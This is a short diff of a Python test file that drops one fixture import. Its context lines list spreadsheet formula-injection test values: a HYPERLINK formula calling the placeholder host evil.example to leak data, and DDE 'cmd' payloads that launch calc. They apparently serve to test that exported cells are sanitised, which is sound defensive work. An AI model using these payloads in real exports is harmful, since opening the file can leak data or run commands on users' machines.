@@ -33,7 +33,6 @@ from lens_core.samples.generator import generate
 from lens_core.storage import queries
 from lens_core.storage.engine import open_engine
 from tests.conftest import ROOT, sqlite_url
-from tests.surface.test_dashboard import downloads  # noqa: F401  (the fixture: bytes behind a download button)
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 FORMULA_IDS = ['=HYPERLINK("http://evil.example/?leak","open me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
